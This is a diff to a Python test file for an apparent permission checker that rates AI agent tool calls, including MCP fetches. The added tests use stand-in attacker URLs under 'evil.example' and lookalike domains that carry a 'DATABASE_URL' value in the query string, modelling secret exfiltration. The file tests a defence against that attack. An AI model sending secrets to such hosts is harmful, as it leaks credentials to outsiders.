@@ -55,7 +55,24 @@ def test_an_mcp_fetch_is_a_fetch(tool: str, field: str, host: str, path: str, sc
     assert asked == "allow" or fetched != "allow"
 
 
-@pytest.mark.parametrize("url", ["https://acme.sentry.io/issues/42", "https://sentry.acme.example/issues/42"])
+@pytest.mark.parametrize("url", ["https://acme.sentry.io/issues/42", "https://acme.sentry.io/issues/42?project=7"])
 def test_an_address_of_the_servers_own_service_names_what_is_asked_for(url: str) -> None:
     assert verdict("mcp__sentry__get_issue_details", {"issueUrl": url}) == "allow"
-    assert verdict("mcp__fetch__fetch", {"url": url}) != "allow"
+    assert verdict("mcp__fetch__fetch", {"url": url}) == verdict("WebFetch", {"url": url, "prompt": "x"})
+
+
+SERVERS = ("fetch", "web", "playwright", "http", "sentry", "github", "atlassian", "linear")
+
+
+@given(
+    server=st.sampled_from(SERVERS),
+    tool=st.sampled_from(("get_page", "fetch", "get_issue_details")),
+    place=st.sampled_from(("{}.evil.example", "x.{}.evil.example", "{}.github.io", "{}.vercel.app")),
+    blank=st.sampled_from(("", " ", "\n")),
+)
+def test_a_name_beneath_a_strangers_domain_is_not_the_servers_own(
+    server: str, tool: str, place: str, blank: str
+) -> None:
+    url = f"{blank}https://{place.format(server)}/?d=DATABASE_URL%3Dpostgres"
+    fetched = verdict("WebFetch", {"url": url, "prompt": "what it says"})
+    assert ORDER.index(verdict(f"mcp__{server}__{tool}", {"url": url})) >= ORDER.index(fetched)
